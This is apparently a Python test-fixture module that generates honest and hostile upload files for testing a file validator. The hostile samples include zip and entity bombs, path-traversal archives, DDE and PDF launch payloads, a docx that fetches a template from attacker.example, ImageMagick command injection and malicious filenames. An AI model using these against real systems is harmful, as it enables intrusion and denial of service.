"""Files as an attacker would hand them in (RELIABILITY App. D), and honest ones beside them; all made here, none shipped."""
from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
W, S = "wordprocessingml", "spreadsheetml"
CT = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.{main}.main+xml"/></Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# -- honest ones ----------------------------------------------------------------------------------------------
def png(width: int = 2, height: int = 2, *, extra: bytes = b"", rows: bytes | None = None) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(rows if rows is not None else b"\0" * (width + 1) * height)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + extra + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def jpeg(segments: bytes = b"") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "navy").save(out, "JPEG")
    whole = out.getvalue()
    return whole[:2] + segments + whole[2:]


def pdf(extra: bytes = b"", *, version: bytes = b"1.7") -> bytes:
    return (b"%PDF-" + version + b"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            + extra + b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n9\n%%EOF\n")


def box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def mp4(brand: bytes = b"isom") -> bytes:
    return box(b"ftyp", brand + b"\0\0\0\0" + brand) + box(b"moov", b"\0" * 32) + box(b"mdat", b"\1" * 64)


def wav() -> bytes:
    return b"RIFF" + struct.pack("<I", 36 + 8) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 8) + b"\x80" * 8


def mp3() -> bytes:
    return b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90\x00" + b"\x11" * 600


def zipped(files: Mapping[str, bytes], *, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(more: Mapping[str, bytes] | None = None, *, document: bytes = b"<w:document/>") -> bytes:
    return zipped({"[Content_Types].xml": CT.format(part="word/document.xml", kind=W, main="document").encode(), "word/document.xml": document, **(more or {})})


def xlsx(more: Mapping[str, bytes] | None = None) -> bytes:
    return zipped({"[Content_Types].xml": CT.format(part="xl/workbook.xml", kind=S, main="sheet").encode(), "xl/workbook.xml": b"<workbook/>", **(more or {})})


HONEST: dict[str, Callable[[], bytes]] = {
    "现场照片.jpg": jpeg, "现场照片.JPEG": jpeg, "截图.png": png, "询问笔录（扫描）.pdf": pdf, "情况说明.docx": docx, "罚没清单.xlsx": xlsx, "执法记录.mp4": mp4,
    "手机录像.mov": lambda: mp4(b"qt  "), "录音.wav": wav, "录音.mp3": mp3, "录音.m4a": lambda: mp4(b"M4A "),
    "照片一组.zip": lambda: zipped({"1.jpg": jpeg(), "夹/2.png": png()}),
    "带链接的说明.docx": lambda: docx({"word/_rels/document.xml.rels": RELS.format(
        f'<Relationship Id="r1" Type="{OFFICE}/hyperlink" Target="https://example.org" TargetMode="External"/>').encode()}),
}


# -- hostile ones ---------------------------------------------------------------------------------------------
def entry(name: str, content: bytes = b"x", *, mode: int = stat.S_IFREG | 0o644, encrypted: bool = False) -> bytes:
    out = io.BytesIO()
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, content)
    data = out.getvalue()
    if encrypted:
        data = bytearray(data)
        data[6] |= 1
        data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """Two directory entries over the same packed bytes."""
    data = zipped({"a.jpg": b"\0" * 5000})
    central, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    record = bytearray(data[central:end])
    twin = record.replace(b"a.jpg", b"b.jpg")
    both = bytes(record) + bytes(twin)
    last = bytearray(data[end:])
    struct.pack_into("<HHI", last, 8, 2, 2, len(both))
    return data[:central] + both + bytes(last)


def lying(claimed: int = 10) -> bytes:
    """An entry that is larger than its directory says."""
    data = bytearray(zipped({"a.jpg": b"\0" * 100_000}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", data, data.index(mark) + at, claimed)
    return bytes(data)


def zip64_lie() -> bytes:
    data = bytearray(zipped({"a.jpg": jpeg()}))
    struct.pack_into("<HH", data, data.rindex(b"PK\x05\x06") + 8, 0xFFFF, 0xFFFF)
    return bytes(data)


def object_stream(size: int = 80 << 20, content: bytes | None = None) -> bytes:
    packed = zlib.compress(content if content is not None else b"\0" * size, 9)
    return pdf(b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj")


def external(kind: str) -> bytes:
    return docx({"word/_rels/settings.xml.rels": RELS.format(
        f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="http://attacker.example/x.dotm" TargetMode="External"/>').encode()})


BOMB = b"\0" * (30 << 20)
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

#: what it is → the name it comes under, and how to make it
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing at all": ("a.jpg", lambda: b""),
    "the antivirus test file as pdf": ("invoice.pdf", lambda: EICAR),
    "the antivirus test file by its own name": ("eicar.com", lambda: EICAR),
    "a program": ("照片.exe", lambda: b"MZ" + b"\0" * 500),
    "a program called a photo": ("照片.jpg", lambda: b"MZ" + b"\0" * 500),
    "a second extension behind": ("照片.jpg.exe", jpeg),
    "a second extension inside": ("照片.php.jpg", jpeg),
    "html as pdf": ("a.pdf", lambda: HTML),
    "html": ("a.html", lambda: HTML),
    "svg with a script": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "svg called png": ("a.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg with a foreign object": ("a.svg", lambda: b'<svg><foreignObject><iframe src="//x"/></foreignObject></svg>'),
    "gif and javascript in one": ("a.jpg", lambda: b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)//"),
    "a gif": ("a.gif", lambda: b"GIF89a" + b"\0" * 40),
    "jpeg and html in one": ("a.jpg", lambda: jpeg(b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML)),
    "jpeg and zip in one": ("a.jpg", lambda: jpeg() + zipped({"a.class": b"x"})),
    "jpeg cut off": ("a.jpg", lambda: jpeg()[:200]),
    "jpeg with twenty megabytes of metadata": ("a.jpg", lambda: jpeg((b"\xff\xe1\xff\xff" + b"\0" * 65533) * 320)),
    "png of 60,000 by 60,000": ("a.png", lambda: png(60_000, 60_000, rows=b"\0" * 1000)),
    "png text that unpacks to 100 MB": ("a.png", lambda: png(extra=_chunk(b"zTXt", b"k\0\0" + zlib.compress(b"a" * (100 << 20), 9)))),
    "png broken in the middle": ("a.png", lambda: png()[:-20] + b"\0" * 20),
    "tiff called jpg": ("a.jpg", lambda: b"II*\0\x08\0\0\0" + b"\0" * 100),
    "imagemagick script": ("a.png", lambda: b"push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'https://x/`id`'"),
    "postscript called jpg": ("a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    "webp": ("a.webp", lambda: b"RIFF\0\0\0\0WEBPVP8 "),
    "docx with a macro": ("a.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "docm": ("a.docm", docx),
    "docx with an outside template": ("a.docx", lambda: external("attachedTemplate")),
    "docx with an outside frame": ("a.docx", lambda: external("frame")),
    "docx with an entity bomb": ("a.docx", lambda: docx(document=ENTITY)),
    "docx with an entity bomb in UTF-16": ("a.docx", lambda: docx(document=ENTITY.decode().encode("utf-16"))),
    "docx with an embedded program": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"MZ"})),
    "docx with DDE": ("a.docx", lambda: docx(document=b'<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:document>')),
    "docx that bursts": ("a.docx", lambda: docx({"word/media/a.bin": BOMB})),
    "xlsx with DDE": ("a.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"})),
    "xlsx called docx": ("a.docx", xlsx),
    "zip called docx": ("a.docx", lambda: zipped({"a.txt": b"x"})),
    "zip that bursts": ("a.zip", lambda: zipped({"a.jpg": BOMB})),
    "zip that bursts in many parts": ("a.zip", lambda: zipped({f"{n}.jpg": b"\0" * 300_000 for n in range(60)})),
    "zip in a zip": ("a.zip", lambda: zipped({"b.zip": zipped({"c.zip": zipped({"a.jpg": jpeg()})})})),
    "zip of overlapping entries": ("a.zip", overlapping),
    "zip of twelve thousand entries": ("a.zip", lambda: zipped({f"{n}.jpg": b"" for n in range(12_000)}, compress=zipfile.ZIP_STORED)),
    "zip64 that lies": ("a.zip", zip64_lie),
    "zip that lies about a size": ("a.zip", lying),
    "zip with a symbolic link": ("a.zip", lambda: entry("a.jpg", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)),
    "zip with an absolute path": ("a.zip", lambda: entry("/etc/cron.d/a.jpg")),
    "zip that climbs out": ("a.zip", lambda: entry("../../a.jpg")),
    "zip that climbs out the other way": ("a.zip", lambda: entry("..\\..\\a.jpg")),
    "zip with a drive": ("a.zip", lambda: entry("C:\\a.jpg")),
    "encrypted zip": ("a.zip", lambda: entry("a.jpg", encrypted=True)),
    "zip with a program": ("a.zip", lambda: zipped({"a.exe": b"MZ"})),
    "zip cut off": ("a.zip", lambda: zipped({"a.jpg": jpeg()})[:-30]),
    "rar": ("a.rar", lambda: b"Rar!\x1a\x07\x01\0"),
    "pdf with a script": ("a.pdf", lambda: pdf(b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj")),
    "pdf with a script spelt with escapes": ("a.pdf", lambda: pdf(b"3 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj")),
    "pdf that starts a program": ("a.pdf", lambda: pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj")),
    "pdf with a file in it": ("a.pdf", lambda: pdf(b"3 0 obj\n<< /Type /EmbeddedFile >>\nendobj")),
    "pdf with a script in an object stream": ("a.pdf", lambda: object_stream(content=b"3 0 << /S /JavaScript /JS (x) >>")),
    "pdf with an object stream bomb": ("a.pdf", object_stream),
    "encrypted pdf": ("a.pdf", lambda: pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R")),
    "pdf cut off": ("a.pdf", lambda: pdf()[:60]),
    "mp4 that is only a head": ("a.mp4", lambda: box(b"ftyp", b"isom\0\0\0\0isom")),
    "mp4 that claims more than there is": ("a.mp4", lambda: mp4()[:-64] + b"\1"),
    "wav without sound": ("a.wav", lambda: wav()[:20]),
    "a name that turns the writing round": ("照片\u202egpj.exe.jpg", jpeg),
    "a name with a NUL": ("a.jpg\0.exe", jpeg),
    "a name with a line break": ("a\r\nSet-Cookie: x=1.jpg", jpeg),
    "a name without an extension": ("README", jpeg),
    "an extension alone": (".jpg", jpeg),
}

#: awkward names of sound files, and what is kept of them
NAMES = {"../../etc/passwd.jpg": "passwd.jpg", "..\\..\\windows\\a.jpg": "a.jpg", "C:\\照片\\现场.JPG": "现场.jpg", "/abs/照片.jpg": "照片.jpg", "CON.jpg": "文件 CON.jpg",
         "aux.jpg": "文件 aux.jpg", "-rf.jpg": "rf.jpg", "a;b&c`d.jpg": "a_b_c_d.jpg", 'say "hi".jpg': "say _hi.jpg", "📷现场.jpg": "📷现场.jpg", "x" * 5000 + ".jpg": "x" * 120 + ".jpg",
         "  .隐藏.jpg": "隐藏.jpg", "a%00.jpg": "a_00.jpg", "=cmd|' /C calc'!A0.jpg": "C calc'!A0.jpg"}
